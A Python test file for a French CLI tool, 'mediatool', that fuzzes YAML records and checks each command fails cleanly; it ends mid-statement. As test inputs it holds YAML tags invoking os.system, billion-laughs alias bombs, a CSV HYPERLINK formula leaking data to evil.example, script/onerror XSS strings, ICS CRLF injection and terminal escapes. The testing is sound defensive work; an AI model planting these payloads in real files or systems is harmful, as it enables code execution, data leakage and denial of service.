"""Hostile and wrong input: every command answers with a message and an exit code.

Property-based (hypothesis): catalogue, team and record files are generated
from valid ones by random mutations — wrong types, unknown fields, huge
strings, deep nesting, billion-laughs aliases, `!!python/*` tags, invalid
UTF-8, BOMs, CRLF, tabs, truncation — then every command that reads them
must exit 0, 1 or 2 with a message, never a traceback, never run code.
"""

from __future__ import annotations

import datetime as dt
import os
import re
import resource
import stat as stat_module
import subprocess
import sys
import tempfile
import textwrap
import time
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner
from conftest import FILES, NOW, write_folder
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mediatool.cli import cli
from mediatool.store.records import event_to_document
from mediatool.store.yamltext import MAX_DEPTH, YamlSyntaxError, dump_document, load_documents

REPO = Path(__file__).resolve().parent.parent
# HOSTILE_EXAMPLES=500 HOSTILE_EXPLORE=1 for a deeper, randomly seeded run.
PROPERTY = settings(max_examples=int(os.environ.get("HOSTILE_EXAMPLES", "60")), deadline=None,
                    derandomize=not os.environ.get("HOSTILE_EXPLORE"),
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                           HealthCheck.function_scoped_fixture])

# Every command that reads the files; those of other issues join once they exist.
COMMANDS: list[list[str]] = [["check"], ["catalogue", "check"], ["catalogue", "search", "caf"]]
for optional in (["report", "--month", "2026-11"], ["agenda", "--week", "2026-12-07"],
                 ["calls"], ["path", "list"], ["slots", "--days", "2"],
                 ["purge", "--before", "2026-11-30", "--dry-run"]):
    if optional[0] in cli.commands:
        COMMANDS.append(optional)

LAUGHS = "&l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]\n" for i in range(1, 10))
LAUGHS_ROOT = "l0: " + LAUGHS + "boom: *l9\n"


def _hostile_scalars(marker: Path) -> list[str]:
    """Raw YAML pasted where a value goes: each one wrong in its own way."""
    return [
        f'!!python/object/apply:os.system ["touch {marker}"]',
        f"!!python/object/new:subprocess.Popen [[touch, '{marker}']]",
        "!!python/name:os.system",
        "*l9", "&me [*me]", "*nowhere",
        "[" * 3000 + "]" * 3000, "{a: " * 200 + "1" + "}" * 200,
        "14:00", "09:30", "12/01/2026", "01/12/2026 14:00", "2026-12-07 10:00:00",
        "2026-13-45", "1e400", "-.inf", ".nan", "0x1F", "0o777", "1_000", "~", "yes", "no",
        "!!binary aGVsbG8=", "!!set {a, b}", "!!omap [a: 1]", "!!timestamp 2026-12-07",
        "'unterminated", '"\\ud800 lone surrogate"', '"\\0 nul"', "|\n  bloc\n  texte",
        "x" * 200_000, "é" * 5_000, "- a\n- b", "{}", "[]", "''", "!!str 12", "? [a]\n: b",
        "<<: *l1",
    ]


def values() -> st.SearchStrategy[Any]:
    """Wrong types: any YAML-representable value, nested a little."""
    scalars = st.one_of(st.none(), st.booleans(), st.integers(min_value=-10**30, max_value=10**30),
                        st.floats(allow_nan=True), st.text(max_size=30),
                        st.dates(), st.datetimes(timezones=st.just(dt.UTC)))
    return st.recursive(scalars, lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=8), inner, max_size=4)),
        max_leaves=12)


@st.composite
def mutated(draw: st.DrawFn, value: Any, marker: Path) -> bytes:
    """A YAML file derived from `value` by random structural and textual damage."""
    hostile = _hostile_scalars(marker)
    sentinels: dict[str, str] = {}

    def mutate(node: Any, depth: int) -> Any:
        choice = draw(st.integers(0, 9))
        if depth and choice == 0:
            return draw(values())
        if depth and choice == 1:
            key = f"ZZHOSTILE{len(sentinels)}ZZ"
            sentinels[key] = draw(st.sampled_from(hostile))
            return key
        if isinstance(node, dict):
            out = {}
            for k, v in node.items():
                if draw(st.integers(0, 12)) == 0:
                    continue  # a field removed
                out[k] = mutate(v, depth + 1)
            if draw(st.integers(0, 12)) == 0:
                out[draw(st.text(min_size=1, max_size=10))] = draw(values())
            return out
        if isinstance(node, list):
            return [mutate(v, depth + 1) for v in node[: draw(st.integers(0, len(node)))]]
        return node

    text = yaml.safe_dump(mutate(value, 0), allow_unicode=True, sort_keys=False)
    for key, raw in sentinels.items():
        text = text.replace(key, raw.replace("\n", "\n    "))
    if draw(st.booleans()):
        text = re.sub(r"'(\d\d:\d\d)'", r"\1", text)  # times left unquoted
    if draw(st.integers(0, 4)) == 0 and text[:1].isalpha():
        text = LAUGHS_ROOT + text  # a mapping: the aliases arrive as extra keys
    if draw(st.integers(0, 5)) == 0:
        text = text.replace("  ", "\t")
    if draw(st.integers(0, 5)) == 0:
        text = text.replace("\n", "\r\n")
    if draw(st.integers(0, 8)) == 0:
        text = text[: draw(st.integers(0, len(text)))]
    data = text.encode("utf-8", errors="surrogatepass")
    if draw(st.integers(0, 5)) == 0:
        data = b"\xef\xbb\xbf" + data
    if draw(st.integers(0, 8)) == 0 and data:
        at = draw(st.integers(0, len(data) - 1))
        data = data[:at] + draw(st.sampled_from([b"\xff", b"\xc3", b"\x00", b"\xe9"])) + data[at:]
    return data


def _some_commands(data: st.DataObject) -> list[list[str]]:
    """`check` and two other commands, so each one meets many files in a bounded time."""
    others = data.draw(st.lists(st.sampled_from(COMMANDS[1:]), min_size=2, max_size=2,
                                unique_by=tuple))
    return [COMMANDS[0], *others]


def _assert_every_command_answers(root: Path, marker: Path,
                                  commands: list[list[str]] = COMMANDS) -> None:
    for args in commands:
        result = CliRunner().invoke(cli, ["--data", str(root), *args])
        where = f"mediatool {' '.join(args)}"
        assert isinstance(result.exception, SystemExit | None), \
            f"{where}: {result.exception!r}"
        assert result.exit_code in (0, 1, 2), f"{where}: exit {result.exit_code}\n{result.output}"
        assert "Traceback" not in result.output and "Erreur inattendue" not in result.output, \
            f"{where}:\n{result.output[-2000:]}"
        if result.exit_code:
            assert "erreur" in result.output.lower(), \
                f"{where} failed without saying why:\n{result.output[-500:]}"
        assert not marker.exists(), f"{where} ran code from a YAML tag"


def _catalogue_value(name: str) -> Any:
    return yaml.safe_load(textwrap.dedent(FILES[name]))


@pytest.fixture(autouse=True)
def _fixed_clock(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MEDIATOOL_NOW", NOW)
    monkeypatch.delenv("MEDIATOOL_DATA", raising=False)


@pytest.mark.parametrize("name", ["procedures.yaml", "organisations.yaml", "skills.yaml",
                                  "team.yaml"])
@PROPERTY
@given(data=st.data())
def test_mangled_catalogue_files_never_crash_a_command(name: str, data: st.DataObject) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        marker = Path(tmp) / "PWNED"
        root = write_folder(Path(tmp) / "data")
        (root / "catalogue" / name).write_bytes(data.draw(mutated(_catalogue_value(name),
                                                                  marker)))
        _assert_every_command_answers(root, marker, _some_commands(data))


def _valid_records() -> dict[str, list[dict[str, Any]]]:
    from mediatool.core.model import (
        AppointmentBooked,
        AppointmentCancelled,
        CallRecorded,
        DropinTally,
        PathOpened,
    )

    paris = dt.timezone(dt.timedelta(hours=1))
    at = dt.datetime(2026, 11, 3, 10, 0, tzinfo=paris)
    start = dt.datetime(2026, 11, 5, 9, 30, tzinfo=paris)
    return {
        "appointments": [event_to_document(e) for e in (
            AppointmentBooked(id="A-7K3QX2", event="booked", at=at, by="camille",
                              mediator="camille", kind="demarche", start=start,
                              duration_min=45, person="Jeanne Martin", phone="06 12 34 56 78",
                              procedure="caf-prime-activite"),
            AppointmentCancelled(id="A-7K3QX2", event="cancelled", at=at, by="camille",
                                 by_person=True))],
        "calls": [event_to_document(CallRecorded(
            id="C-4M2PQ8", event="call", at=at, by="camille", outcome="dropin", in_shift=True,
            duration_min=6, procedure="ants-carte-grise", note="rappeler jeudi"))],
        "paths": [event_to_document(PathOpened(
            id="P-9Q8RS1", event="opened", at=at, by="camille", person="Paul Durand",
            mediator="camille", skills=("2.1",), sessions=3))],
        "dropins": [event_to_document(DropinTally(
            id="D-2B3C4D", event="tally", at=at, by="camille", site="centre",
            date=dt.date(2026, 11, 2), seen=9, refused=2))],
    }


RECORDS = _valid_records()


@pytest.mark.parametrize("kind", sorted(RECORDS))
@PROPERTY
@given(data=st.data())
def test_mangled_record_files_never_crash_a_command(kind: str, data: st.DataObject) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        marker = Path(tmp) / "PWNED"
        root = write_folder(Path(tmp) / "data")
        parts = []
        for document in RECORDS[kind] * data.draw(st.integers(1, 3)):
            body = data.draw(mutated(document, marker))
            parts.append(data.draw(st.sampled_from([b"---\n" + body + b"...\n",
                                                     b"---\n" + body, body])))
        path = root / "records" / kind / "2026-11.yaml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(b"".join(parts))
        _assert_every_command_answers(root, marker, _some_commands(data))


@PROPERTY
@given(raw=st.binary(max_size=300) | st.text(max_size=300).map(str.encode))
def test_random_bytes_anywhere_never_crash_a_command(raw: bytes) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        marker = Path(tmp) / "PWNED"
        root = write_folder(Path(tmp) / "data")
        (root / "catalogue" / "team.yaml").write_bytes(raw)
        path = root / "records" / "calls" / "2026-11.yaml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(raw)
        _assert_every_command_answers(root, marker)


# ---- the specific rules, with their positions -------------------------------

def test_unquoted_time_is_rejected_with_its_line(run, folder: Path) -> None:
    team = (folder / "catalogue" / "team.yaml")
    team.write_text(team.read_text().replace('start: "14:00"', "start: 14:00"))
    result = run("check")
    assert result.exit_code == 1
    line = next(i for i, text in enumerate(team.read_text().splitlines(), 1)
                if "start: 14:00" in text)
    assert f"catalogue/team.yaml:{line}" in result.output
    assert "840" in result.output and '"14:00"' in result.output


@pytest.mark.parametrize("ambiguous", ["12/01/2026", "01-12-2026", "2026/12/01", "1 déc. 2026"])
def test_ambiguous_dates_are_rejected_with_their_line(run, folder: Path, ambiguous: str) -> None:
    team = folder / "catalogue" / "team.yaml"
    team.write_text(team.read_text().replace("{start: 2026-12-24,", f"{{start: {ambiguous},"))
    result = run("catalogue", "check")
    assert result.exit_code == 1
    line = next(i for i, text in enumerate(team.read_text().splitlines(), 1)
                if ambiguous in text)
    assert f"catalogue/team.yaml:{line}" in result.output
    assert "AAAA-MM-JJ" in result.output


def test_ambiguous_date_in_a_record_is_rejected_with_its_line(run, folder: Path) -> None:
    document = dict(RECORDS["dropins"][0], date="12/01/2026")
    path = folder / "records" / "dropins" / "2026-11.yaml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(dump_document(RECORDS["dropins"][0]) + dump_document(document))
    result = run("check")
    assert result.exit_code == 1
    line = 1 + next(i for i, text in enumerate(path.read_text().splitlines())
                    if "12/01/2026" in text)
    assert f"records/dropins/2026-11.yaml:{line}" in result.output


def test_python_tags_never_run(run, folder: Path, tmp_path: Path) -> None:
    marker = tmp_path / "PWNED"
    for name in ("team.yaml", "procedures.yaml"):
        (folder / "catalogue" / name).write_text(
            f'service: !!python/object/apply:os.system ["touch {marker}"]\n')
    path = folder / "records" / "calls" / "2026-11.yaml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f'---\nid: !!python/object/apply:os.system ["touch {marker}"]\n...\n')
    for args in COMMANDS:
        result = run(*args)
        assert result.exit_code in (1, 2), result.output
        assert "étiquette YAML interdite" in result.output
    assert not marker.exists()


def test_deep_flow_nesting_is_refused_quickly_with_its_line() -> None:
    started = time.perf_counter()
    with pytest.raises(YamlSyntaxError) as caught:
        load_documents("---\nid: x\n...\n---\nnote: " + "[" * 50_000 + "]" * 50_000 + "\n...\n")
    assert time.perf_counter() - started < 1.0
    assert caught.value.line == 5 and "profonde" in caught.value.message
    assert MAX_DEPTH < 100


def _run_limited(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """Run mediatool in a process that cannot take more than 1 GiB of memory."""
    limit = 1 << 30

    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))

    env = {**os.environ, "PYTHONPATH": str(REPO), "MEDIATOOL_NOW": NOW}
    return subprocess.run([sys.executable, "-m", "mediatool", "--data", str(root), *args],
                          capture_output=True, text=True, env=env, timeout=60, preexec_fn=cap)


def test_billion_laughs_stay_small_and_fast(tmp_path: Path) -> None:
    root = write_folder(tmp_path / "data")
    (root / "catalogue" / "skills.yaml").write_text(LAUGHS_ROOT)
    path = root / "records" / "appointments" / "2026-11.yaml"
    path.parent.mkdir(parents=True, exist_ok=True)
    booked = dump_document(RECORDS["appointments"][0]).removesuffix("...\n")
    path.write_text(booked + LAUGHS_ROOT.replace("boom:", "note:") + "...\n"
                    + "---\n" + LAUGHS_ROOT.replace("boom:", "event:") + "...\n")
    started = time.perf_counter()
    done = _run_limited(root, "check")
    assert time.perf_counter() - started < 30
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stdout + done.stderr
    assert "catalogue/skills.yaml:" in done.stdout and "alias" in done.stdout
    assert "records/appointments/2026-11.yaml:" in done.stdout


def test_every_command_under_test_works_on_a_valid_folder(run) -> None:
    """Guards the property tests: a command failing on good data proves nothing."""
    for args in COMMANDS:
        result = run(*args)
        assert result.exit_code == 0, f"mediatool {' '.join(args)}:\n{result.output}"


# ---- issue 20 #8: CSV formula injection ---------------------------------------------------

@given(st.text(min_size=1, max_size=40))
@settings(max_examples=200, deadline=None)
def test_no_csv_cell_can_start_a_formula(text: str) -> None:
    from mediatool.formats.report import neutralise_cell
    cell = neutralise_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell.endswith(text)


@pytest.mark.parametrize("dialect", ["excel", "excel-fr"])
def test_a_formula_in_the_catalogue_is_text_in_report_csv(run, folder: Path, dialect: str) -> None:
    import csv
    import io
    team = folder / "catalogue" / "team.yaml"
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
    team.write_text(team.read_text(encoding="utf-8").replace(
        "service: Service de test", "service: '" + hostile.replace("'", "''") + "'"),
        encoding="utf-8")
    result = run("report", "--month", "2026-11", "--format", "csv", "--csv-dialect", dialect)
    assert result.exit_code == 0, result.output
    cells = [c for row in csv.reader(io.StringIO(result.output.lstrip("\ufeff")),
                                     delimiter=";" if dialect == "excel-fr" else ",")
             for c in row]
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    assert any(c == "'" + hostile for c in cells) or hostile not in result.output


# ---- issue 20 #7: ICS property injection through a record id ----------------------------

def test_an_injected_id_never_adds_calendar_properties(run, folder: Path, tmp_path: Path) -> None:
    booked = run("book", "--mediator", "camille", "--kind", "demarche", "--procedure",
                 "caf-prime-activite", "--person", "Alice A.", "--at", "2026-12-08 14:00",
                 "--format", "json")
    assert booked.exit_code == 0, booked.stderr
    good = re.search(r'"id": "(A-[0-9A-Z]+)"', booked.output).group(1)
    month = folder / "records" / "appointments" / "2026-12.yaml"
    hostile = 'A-EVIL1\\r\\nX-INJECTED:yes\\r\\nSUMMARY:Rendez-vous annulé, ne venez pas'
    month.write_text(month.read_text(encoding="utf-8").replace(f"id: {good}", f'id: "{hostile}"'),
                     encoding="utf-8")
    checked = run("check")
    assert checked.exit_code != 0 and "invalide" in checked.output + checked.stderr
    out = tmp_path / "ics"
    exported = run("export-ics", "--out", str(out))
    assert exported.exit_code != 0
    for path in out.glob("*.ics") if out.exists() else []:
        assert b"X-INJECTED" not in path.read_bytes()


def test_a_slug_with_a_trailing_newline_is_refused() -> None:
    from mediatool.core.fields import SLUG_PATTERN, _compiled
    assert _compiled(SLUG_PATTERN).fullmatch("lea")
    assert not _compiled(SLUG_PATTERN).fullmatch("lea\n")


def test_a_line_break_inside_a_property_never_starts_another() -> None:
    from mediatool.formats.ics import appointment_uid, fold
    assert fold("SUMMARY:a\r\nX-INJECTED:yes").count(b"\r\n") == 1
    assert b"\r\n" not in appointment_uid("A-X\r\nX-INJECTED:yes").encode()


# ---- issue 20 #9: markdown report escaping ------------------------------------------------

MARKUP = "<script>alert(1)</script> | <img src=x onerror=alert(2)> <svg onload=alert(3)>"


def _unescaped_pipes(line: str) -> int:
    return len(re.findall(r"(?<!\\)\|", line))


def test_markup_from_the_catalogue_stays_text_in_the_markdown_report(run, folder: Path) -> None:
    team = folder / "catalogue" / "team.yaml"
    team.write_text(team.read_text(encoding="utf-8").replace(
        "service: Service de test", f"service: '{MARKUP}'").replace(
        "{id: centre, name: Centre}", "{id: centre, name: 'Centre | <b>x</b> [clic](http://evil)'}"),
        encoding="utf-8")
    procedures = folder / "catalogue" / "procedures.yaml"
    procedures.write_text(procedures.read_text(encoding="utf-8").replace(
        "title: Demander la prime d'activité", f"title: '{MARKUP}'"), encoding="utf-8")
    assert run("dropin", "--site", "centre", "--date", "2026-12-07", "--seen", "3",
               "--refused", "1").exit_code == 0
    assert run("call", "--procedure", "caf-prime-activite", "--outcome", "dropin").exit_code == 0
    result = run("report", "--month", "2026-12", "--format", "markdown")
    assert result.exit_code == 0, result.output
    text = result.output
    for tag in ("<script", "<img", "<svg", "<b>"):
        assert tag not in text, tag
    assert "&lt;script&gt;" not in text and "&lt;script>" in text  # shown, not run
    assert "[clic](" not in text and "\\[clic\\](" in text  # no link
    tables = [line for line in text.splitlines() if line.startswith("|")]
    assert tables
    header_pipes = None
    for line in text.splitlines():
        if not line.startswith("|"):
            header_pipes = None
            continue
        header_pipes = header_pipes or _unescaped_pipes(line)
        assert _unescaped_pipes(line) == header_pipes, line  # no cell split by a « | »


@given(st.text(max_size=40))
@settings(max_examples=200, deadline=None)
def test_no_markdown_text_can_open_a_tag_or_a_cell(text: str) -> None:
    from mediatool.formats.report import markdown_text
    escaped = markdown_text(text)
    assert "<" not in escaped and "\n" not in escaped
    assert _unescaped_pipes(escaped) == 0


# ---- issue 20 #10: every free text is anonymous; fragments are checked and purged ----------

PERSONAL = "rappeler Mme Dupont au 06 12 34 56 78"


def _record_files(folder: Path) -> dict[str, bytes]:
    return {str(p): p.read_bytes() for p in (folder / "records").rglob("*.yaml")}


def _booked(run) -> str:
    booked = run("book", "--mediator", "camille", "--kind", "demarche", "--procedure",
                 "caf-prime-activite", "--person", "Alice A.", "--at", "2026-12-08 14:00")
    assert booked.exit_code == 0, booked.stderr
    return re.search(r"A-[0-9A-Z]{9}", booked.output).group(0)


@pytest.mark.parametrize("args", [
    ["book", "--mediator", "camille", "--kind", "demarche", "--procedure",
     "caf-prime-activite", "--person", "Alice A.", "--at", "2026-12-10 09:00", "--note", PERSONAL],
    ["path", "open", "--person", "Odette R.", "--mediator", "camille", "--skills", "2.1",
     "--sessions", "2", "--note", PERSONAL],
    ["dropin", "--site", "centre", "--date", "2026-11-30", "--seen", "3", "--refused", "0",
     "--note", PERSONAL],
    ["call", "--query", "Mme Dupont carte grise", "--outcome", "other"],
    ["reschedule", "{id}", "--at", "2026-12-10 09:00", "--reason", PERSONAL],
    ["attended", "{id}", "--note", "nadia(at)gmail.com"],
])
def test_a_free_text_with_personal_data_is_refused_everywhere(run, folder: Path, monkeypatch,
                                                              args: list[str]) -> None:
    appointment = _booked(run)
    if args[0] == "attended":
        monkeypatch.setenv("MEDIATOOL_NOW", "2026-12-08T15:00:00+01:00")
    before = _record_files(folder)
    runner = CliRunner()
    result = runner.invoke(cli, ["--data", str(folder), *[a.replace("{id}", appointment)
                                                            for a in args]])
    assert result.exit_code == 2, result.output
    assert "anonymes" in result.output
    assert _record_files(folder) == before


FRAGMENT = ("---\nid: A-7K3QX2\nevent: booked\nat: '2026-09-01T10:00:00+02:00'\nby: camille\n"
            "mediator: camille\nkind: demarche\nstart: '2026-09-03T09:00:00+02:00'\n"
            "duration_min: 45\nperson: Jeanne Martin\nphone: 06 12 34 56 78\nnote: |\n"
            "  Mme Dupont, sa voisine\n")


def test_broken_fragments_are_reported_and_purged(run, folder: Path) -> None:
    month = folder / "records" / "appointments"
    month.mkdir(parents=True, exist_ok=True)
    fragment = month / "2026-09.yaml.broken-20261001T100000"
    fragment.write_text(FRAGMENT, encoding="utf-8")
    checked = run("check")
    assert "2026-09.yaml.broken-20261001T100000" in checked.output
    assert "données personnelles" in checked.output
    dry = run("purge", "--before", "2026-11-01", "--dry-run")
    assert dry.exit_code == 0 and "broken" in dry.output, dry.output
    assert fragment.read_text(encoding="utf-8") == FRAGMENT
    done = run("purge", "--before", "2026-11-01")
    assert done.exit_code == 0, done.output
    text = fragment.read_text(encoding="utf-8")
    for personal in ("Jeanne", "06 12", "Dupont", "voisine"):
        assert personal not in text
    assert "id: A-7K3QX2" in text and "start:" in text
    assert "fragment nettoyé" in (folder / "records" / "audit.log").read_text(encoding="utf-8")
    assert "données personnelles" not in run("check").output


def test_a_recent_fragment_is_left_to_the_team(run, folder: Path) -> None:
    fragment = folder / "records" / "appointments" / "2026-12.yaml.broken-20261207T090000"
    fragment.parent.mkdir(parents=True, exist_ok=True)
    fragment.write_text(FRAGMENT, encoding="utf-8")
    assert run("purge", "--before", "2026-11-01").exit_code == 0
    assert fragment.read_text(encoding="utf-8") == FRAGMENT


# ---- issue 20 #12, #13, #15: what people type ----------------------------------------------

@pytest.mark.parametrize("person, says", [
    ("\x1b]0;pwn\x07", "U+001B"),
    ("\u200b", "U+200B"),
    ("Alice\u202eevil", "U+202E"),
    ("Ali\u2028ce", "U+2028"),
    ("Ali\x85ce", "U+0085"),  # C1
    ("   ", "une lettre"),
    ("12345", "une lettre"),
    ("Ren\udce9e", "UTF-8"),
    ("x" * 10_000_000, "trop long"),
])
def test_a_hostile_name_is_refused_and_nothing_recorded(run, folder: Path, person: str,
                                                        says: str) -> None:
    started = time.perf_counter()
    result = run("book", "--mediator", "camille", "--kind", "demarche", "--procedure",
                 "caf-prime-activite", "--person", person, "--at", "2026-12-08 14:00")
    assert time.perf_counter() - started < 5
    assert result.exit_code == 2, result.output[-300:]
    assert says in result.stderr and "--person" in result.stderr
    assert "\x1b" not in result.stderr and len(result.stderr) < 1000
    assert not _record_files(folder)


@pytest.mark.parametrize("args", [
    ["cancel", "A-" + "X" * 10_000_000],
    ["book", "--mediator", "camille", "--kind", "demarche", "--procedure",
     "caf-prime-activite", "--person", "Alice A.", "--at", "2026-12-08 14:00",
     "--from-call", "C-" + "Y" * 10_000_000],
    ["catalogue", "search", "carte grise " * 1_000_000],
    ["catalogue", "search", *["carte"] * 50_000],
    ["call", "--procedure", "ants-carte-grise", "--outcome", "dropin", "--note", "n" * 1001],
    ["cancel", "A-7K3QX2", "--reason", "r" * 301],
])
def test_huge_texts_are_refused_at_once(run, folder: Path, args: list[str]) -> None:
    started = time.perf_counter()
    result = run(*args)
    assert time.perf_counter() - started < 5
    assert result.exit_code == 2, result.output[-300:]
    assert "trop long" in result.stderr and "au plus" in result.stderr
    assert not _record_files(folder)


def test_bounds_of_typed_texts_come_from_the_model() -> None:
    from mediatool.cli import cli as root
    from mediatool.cli.common import Text
    from mediatool.core.fields import text_bound
    from mediatool.core.model import AppointmentBooked, AppointmentCancelled, CallRecorded

    book = root.commands["book"]
    person = next(p for p in book.params if p.name == "person")
    note = next(p for p in book.params if p.name == "note")
    assert isinstance(person.type, Text) and person.type.person
    assert person.type.max_length == text_bound(AppointmentBooked, "person")
    assert note.type.max_length == text_bound(AppointmentBooked, "note")
    reason = next(p for p in root.commands["cancel"].params if p.name == "reason")
    assert reason.type.max_length == text_bound(AppointmentCancelled, "reason")
    search = root.commands["catalogue"].commands["search"]  # type: ignore[attr-defined]
    assert search.params[0].type.max_length == text_bound(CallRecorded, "query")

    import click

    def plain(command: Any) -> list[str]:
        found = [f"{command.name} {p.name}" for p in command.params
                 if type(p.type) is click.types.StringParamType]
        for sub in getattr(command, "commands", {}).values():
            found += plain(sub)
        return found

    assert plain(root) == []  # every text option and argument is a Text


LATIN1 = b"Ren\xe9e"


@pytest.mark.parametrize("args", [
    [b"book", b"--mediator", b"camille", b"--kind", b"demarche", b"--procedure",
     b"caf-prime-activite", b"--person", LATIN1, b"--at", b"2026-12-08 14:00"],
    [b"call", b"--query", LATIN1, b"--outcome", b"other"],
    [b"report", b"--month", b"2026-11", b"--out", b"/tmp/" + LATIN1 + b".md"],
    [b"catalogue", b"search", LATIN1],
    [b"agenda", b"--week", LATIN1],
    [b"book", b"--kind=" + LATIN1],
])
def test_arguments_that_are_not_utf8_get_a_french_line(folder: Path, args: list[bytes]) -> None:
    env = {**os.environ, "PYTHONPATH": str(REPO), "MEDIATOOL_NOW": NOW, "LC_ALL": "C.UTF-8",
           "PYTHONIOENCODING": ""}
    done = subprocess.run([sys.executable.encode(), b"-m", b"mediatool", b"--data",
                           str(folder).encode(), *args], capture_output=True, env=env,
                          timeout=60)
    err = done.stderr.decode("utf-8")
    assert done.returncode == 2, err
    assert "UTF-8" in err and "Erreur :" in err
    assert "Traceback" not in err and "UnicodeEncodeError" not in err
    assert not _record_files(folder)
    assert not Path("/tmp/Ren\udce9e.md").exists()


TEXT_OPTIONS = [
    ["book", "--mediator", "camille", "--kind", "demarche", "--procedure", "caf-prime-activite",
     "--at", "2026-12-08 14:00", "--person", "{}"],
    ["book", "--mediator", "camille", "--kind", "demarche", "--procedure", "caf-prime-activite",
     "--at", "2026-12-08 14:00", "--person", "Alice A.", "--note", "{}"],
    ["book", "--mediator", "camille", "--kind", "demarche", "--procedure", "caf-prime-activite",
     "--at", "2026-12-08 14:00", "--person", "Alice A.", "--phone", "{}"],
    ["call", "--procedure", "ants-carte-grise", "--outcome", "dropin", "--note", "{}"],
    ["call", "--query", "{}", "--outcome", "other"],
    ["dropin", "--site", "{}", "--seen", "1", "--refused", "0"],
    ["path", "open", "--person", "{}", "--mediator", "camille", "--skills", "2.1",
     "--sessions", "2"],
    ["cancel", "{}"],
    ["catalogue", "search", "{}"],
    ["agenda", "--week", "{}"],
    ["slots", "--mediator", "{}"],
]
INVISIBLE = st.sampled_from(["\x00", "\x07", "\x1b", "\x7f", "\x9b", "\u200b", "\u200e",
                             "\u202e", "\u2066", "\ufeff", "\u2028", "\udce9", "\ue000"])


@PROPERTY
@given(template=st.sampled_from(TEXT_OPTIONS), before=st.text(max_size=12),
       bad=INVISIBLE, after=st.text(max_size=12))
def test_control_invisible_and_undecodable_characters_are_refused_in_every_text_option(
        template: list[str], before: str, bad: str, after: str) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        root = write_folder(Path(tmp) / "data")
        value = before + bad + after
        args = [a.replace("{}", value) for a in template]
        result = CliRunner().invoke(cli, ["--data", str(root), *args])
        assert isinstance(result.exception, SystemExit | None), repr(result.exception)
        assert result.exit_code == 2, (args, result.output[-400:])
        assert "Erreur :" in result.output and "Erreur inattendue" not in result.output
        assert bad not in result.output
        assert not list((root / "records").rglob("*.yaml"))


# ---- issue 20 #14: extreme dates ---------------------------------------------------------

BOOK = ["book", "--mediator", "camille", "--kind", "demarche", "--procedure",
        "caf-prime-activite", "--person", "Alice A."]


@pytest.mark.parametrize("args", [
    ["report", "--month", "0001-01"], ["report", "--year", "9999"],
    ["report", "--from", "0001-01-01"], ["calls", "--month", "0000-01"],
    ["agenda", "--week", "9999-12-31"], ["agenda", "--day", "01/01/0001"],
    ["slots", "--from", "31/12/9999"], [*BOOK, "--at", "9999-12-31T23:59"],
    [*BOOK, "--at", "9999-06-01T14:00"], ["dropin", "--site", "centre", "--date", "0001-01-01",
                                         "--seen", "1", "--refused", "0"],
    ["dropins", "--month", "9999-12"], ["purge", "--before", "0001-01-01", "--dry-run"],
    ["export", "coop", "--month", "0001-01", "--out", "coop.csv"],
])
def test_extreme_dates_get_a_french_line_and_exit_2(run, folder: Path, args: list[str]) -> None:
    result = run(*args)
    assert result.exit_code == 2, result.output
    assert "hors des dates permises" in result.stderr and "1990" in result.stderr
    assert not _record_files(folder)


@pytest.mark.parametrize("now", ["9999-12-31T23:00", "0001-01-01T00:00", "1989-12-31T12:00"])
def test_an_extreme_clock_gets_a_french_line(folder: Path, monkeypatch, now: str) -> None:
    monkeypatch.setenv("MEDIATOOL_NOW", now)
    for args in (["agenda"], ["slots"], ["check"]):
        result = CliRunner().invoke(cli, ["--data", str(folder), *args])
        assert result.exit_code == 2, result.output
        assert "MEDIATOOL_NOW hors des dates permises" in result.output


def test_a_booking_beyond_the_horizon_is_refused(run, folder: Path) -> None:
    far = run(*BOOK, "--at", "2027-12-09 14:00")  # a Thursday, 367 days ahead
    assert far.exit_code == 3, far.output
    assert "trop loin" in far.stderr and "booking_horizon_days" in far.stderr
    team = folder / "catalogue" / "team.yaml"
    team.write_text(team.read_text(encoding="utf-8") + "booking_horizon_days: 30\n",
                    encoding="utf-8")
    assert run(*BOOK, "--at", "2027-01-12 14:00").exit_code == 3  # 36 days ahead
    assert run(*BOOK, "--at", "2026-12-08 14:00").exit_code == 0


def test_a_record_or_a_closure_out_of_range_is_flagged_with_its_line(run, folder: Path,
                                                                    tmp_path: Path) -> None:
    _booked(run)
    month = folder / "records" / "appointments" / "2026-12.yaml"
    month.write_text(month.read_text(encoding="utf-8").replace(
        "start: '2026-12-08T14:00:00+01:00'", "start: '9999-06-01T14:00:00+02:00'"),
        encoding="utf-8")
    assert "9999-06-01" in month.read_text(encoding="utf-8")
    checked = run("check")
    assert checked.exit_code == 1
    assert "records/appointments/2026-12.yaml:" in checked.output
    assert "hors des dates permises" in checked.output
    exported = run("export-ics", "--out", str(tmp_path / "ics"))
    assert exported.exit_code in (1, 2) and "Erreur inattendue" not in exported.output
    team = folder / "catalogue" / "team.yaml"
    team.write_text(team.read_text(encoding="utf-8").replace(
        "{start: 2026-12-24, end: 2027-01-01}", "{start: 2026-12-24, end: 9999-12-31}"),
        encoding="utf-8")
    checked = run("catalogue", "check")
    assert checked.exit_code == 1 and "hors des dates permises" in checked.output
    line = next(i for i, text in enumerate(team.read_text().splitlines(), 1) if "9999" in text)
    assert f"catalogue/team.yaml:{line}" in checked.output


DATES = st.one_of(
